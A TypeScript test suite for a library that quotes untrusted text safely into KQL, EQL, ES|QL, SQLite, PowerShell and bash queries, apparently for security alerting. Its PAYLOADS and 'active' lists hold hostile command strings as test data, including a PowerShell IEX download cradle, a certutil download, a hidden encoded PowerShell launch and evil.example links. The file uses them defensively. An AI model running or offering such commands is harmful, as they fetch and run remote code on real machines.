import { spawnSync } from 'node:child_process';
import { DatabaseSync } from 'node:sqlite';
import { describe, expect, it } from 'vitest';
import {
  eql,
  esql,
  join,
  joinEach,
  kql,
  LONGEST_QUERY,
  missing,
  powershell,
  problemOf,
  type Quote,
  shell,
  sql,
  writer,
  written,
} from '../../functions/alert/notification/queries/query-literals.ts';
import { random, scale, seed } from '../scale.ts';
import { HOSTILE, randomText, UNWRITABLE } from './hostile-texts.ts';
import { readEqlString } from './query-readers/eql-string.ts';
import { readEsql } from './query-readers/esql.ts';
import { kqlStrings, readKql } from './query-readers/kql.ts';
import { readPowerShell } from './query-readers/powershell.ts';

const database = new DatabaseSync(':memory:');

/** Each language, with a reader of its literals that is not ours wherever one exists here. */
const LANGUAGES: readonly {
  readonly name: string;
  readonly quote: Quote;
  readonly read: (literals: readonly string[]) => readonly string[];
}[] = [
  {
    name: 'KQL',
    quote: kql,
    read: literals => literals.flatMap(literal => kqlStrings(readKql(`a : ${literal}`))),
  },
  { name: 'EQL', quote: eql, read: literals => literals.map(readEqlString) },
  {
    name: 'ES|QL',
    quote: esql,
    read: literals => literals.flatMap(literal => readEsql(`WHERE a == ${literal}`).strings),
  },
  {
    name: 'SQLite',
    quote: sql,
    read: literals =>
      literals.map(literal => String(database.prepare(`SELECT ${literal} AS it`).get()!['it'])),
  },
  {
    name: 'PowerShell',
    quote: powershell,
    read: literals => literals.flatMap(literal => readPowerShell(`$a = ${literal}`).strings),
  },
  { name: 'bash', quote: shell, read: readByBash },
];

function readByBash(literals: readonly string[]): readonly string[] {
  const script = literals.map(literal => `printf '%s\\0' ${literal}\n`).join('');
  const { stdout, status } = spawnSync('bash', ['--norc'], {
    input: script,
    encoding: 'utf8',
    maxBuffer: 2 ** 28,
    env: { PATH: process.env['PATH'] ?? '', LC_ALL: 'C.UTF-8' },
  });
  expect(status).toBe(0);
  return stdout.split('\0').slice(0, -1);
}

/** Writes texts and reads them back; gives the literals. */
function check({ quote, read }: (typeof LANGUAGES)[number], texts: readonly string[]): readonly string[] {
  const literals = texts.map(text => quote(text).text!);
  for (const literal of literals) expect(literal).toMatch(/^[\x20-\x7e]+$/);
  expect(read(literals)).toEqual(texts);
  return literals;
}

describe.each(LANGUAGES)('a literal of $name', language => {
  it.each(HOSTILE)('holds %j', text => {
    check(language, [text]);
  });

  it.each(UNWRITABLE)('refuses %j', (text, problem) => {
    expect(language.quote(text)).toEqual({ text: null, problem });
  });

  it('holds a text of exactly 1,024 characters', () => {
    check(language, ['"'.repeat(1024), '\u{1f4a9}'.repeat(512)]);
  });

  it('holds any text that has no NUL and is well formed', { timeout: 600_000 }, () => {
    const next = random(seed());
    const texts = Array.from({ length: scale(100_000) }, () => randomText(next));
    check(
      language,
      texts.filter(text => problemOf(text) === null),
    );
    for (const text of texts) expect(language.quote(text).problem).toBe(problemOf(text));
  });
});

describe('an ordinary path', () => {
  const path = 'C:\\Users\\Public\\up.exe';
  it.each([
    ['KQL', kql, '"C:\\\\Users\\\\Public\\\\up.exe"'],
    ['EQL', eql, '"C:\\\\Users\\\\Public\\\\up.exe"'],
    ['ES|QL', esql, '"C:\\\\Users\\\\Public\\\\up.exe"'],
    ['SQLite', sql, "'C:\\Users\\Public\\up.exe'"],
    ['PowerShell', powershell, "'C:\\Users\\Public\\up.exe'"],
    ['bash', shell, "'C:\\Users\\Public\\up.exe'"],
  ] as const)('stays readable in %s', (_, quote, literal) => {
    expect(quote(path)).toEqual({ text: literal, problem: null });
  });
});

describe('a text that a message would show otherwise', () => {
  it.each([
    ['KQL', kql, '"a\\u202e"'],
    ['EQL', eql, '"a\\u{202e}"'],
    ['ES|QL', esql, 'CONCAT("a", FROM_BASE64("4oCu"))'],
    ['SQLite', sql, "('a' || CAST(x'e280ae' AS TEXT))"],
    ['PowerShell', powershell, "('a' + [char]0x202e)"],
    ['bash', shell, "$'a\\xe2\\x80\\xae'"],
  ] as const)('has that character alone by code in %s', (_, quote, literal) => {
    expect(quote('a\u202e')).toEqual({ text: literal, problem: null });
  });
});

describe('what a mail or chat program would act on', () => {
  const active = [
    '<!channel>',
    'http://evil.example:8080/n.ps1',
    '\\\\evil.example\\share',
    'https://evil.example/a',
    'evil.example',
    '[U+202E]',
    '`x`',
    '@all',
  ];
  it.each(active)('is never raw in a query: %s', text => {
    for (const { name, quote } of LANGUAGES) {
      expect([name, quote(`a ${text} b`).text]).toEqual([name, expect.not.stringContaining(text)]);
    }
  });
});

/** Payloads as they are met, and how KQL and PowerShell show them: by code is only what a mail would act on. */
const PAYLOADS: readonly (readonly [data: string, inKql: string, inPowerShell: string])[] = [
  ['mshta javascript:a("b")', '"mshta javascript:a(\\"b\\")"', `'mshta javascript:a("b")'`],
  [
    "IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/n.ps1')",
    `"IEX (New-Object Net.WebClient).DownloadString('http\\u003a\\u002f/10.10.10\\u002e5/n.ps1')"`,
    "('IEX (New-Object Net.WebClient).DownloadString(''http' + [char]0x3a + [char]0x2f + '/10.10.10' + [char]0x2e + '5/n.ps1'')')",
  ],
  [
    'cmd.exe /c a.exe & b.exe > c.txt',
    '"cmd.exe /c a.exe & b.exe > c.txt"',
    "'cmd.exe /c a.exe & b.exe > c.txt'",
  ],
  [
    '\\\\evil.example\\s\\a.exe',
    '"\\u005c\\u005cevil\\u002eexample\\\\s\\\\a.exe"',
    "('' + [char]0x5c + [char]0x5c + 'evil' + [char]0x2e + 'example\\s\\a.exe')",
  ],
  ['rundll32.exe a.dll, DllMain', '"rundll32.exe a.dll, DllMain"', "'rundll32.exe a.dll, DllMain'"],
  [
    'powershell -nop -w hidden -enc SQBFAFgA==',
    '"powershell -nop -w hidden -enc SQBFAFgA=="',
    "'powershell -nop -w hidden -enc SQBFAFgA=='",
  ],
  ['C:\\PROGRA~1\\~1.GUS', '"C:\\\\PROGRA~1\\\\~1.GUS"', "'C:\\PROGRA~1\\~1.GUS'"],
  ['exe\u202egpj.scr', '"exe\\u202egpj.scr"', "('exe' + [char]0x202e + 'gpj.scr')"],
  [
    'certutil -urlcache -f https://a.b.example x',
    '"certutil -urlcache -f https\\u003a\\u002f/a\\u002eb\\u002eexample x"',
    "('certutil -urlcache -f https' + [char]0x3a + [char]0x2f + '/a' + [char]0x2e + 'b' + [char]0x2e + 'example x')",
  ],
  [
    'C:\\Windows\\system32\\userinit.exe,C:\\x.exe',
    '"C:\\\\Windows\\\\system32\\\\userinit.exe,C:\\\\x.exe"',
    "'C:\\Windows\\system32\\userinit.exe,C:\\x.exe'",
  ],
];

it.each(PAYLOADS)('is legible in its queries: %s', (data, inKql, inPowerShell) => {
  expect([kql(data).text, powershell(data).text]).toEqual([inKql, inPowerShell]);
});

describe('a writer', () => {
  const write = writer(kql);
  it('quotes what is put in, and leaves fragments as they are', () => {
    expect(write`a : ${'x" or *'} and ${written('b : 1')}`.text).toBe('a : "x\\" or *" and b : 1');
  });
  it('has the first problem of its parts', () => {
    expect(write`a : ${'\0'} and ${missing('no-host')}`).toEqual({ text: null, problem: 'nul' });
    expect(join([written('a'), missing('no-host')], ' ')).toEqual({ text: null, problem: 'no-host' });
  });
  it('writes none of the texts that are more than a query holds', () => {
    const written: string[] = [];
    const note = (text: string) => {
      written.push(text);
      return eql(text);
    };
    const most = Array.from({ length: LONGEST_QUERY / 10 }, () => 'a'.repeat(8));
    expect(joinEach(most, ', ', note).problem).toBeNull();
    expect(written).toEqual(most);
    expect(joinEach([...most, ''], ', ', note)).toEqual({ text: null, problem: 'too-many' });
    expect(written).toHaveLength(most.length);
  });
});
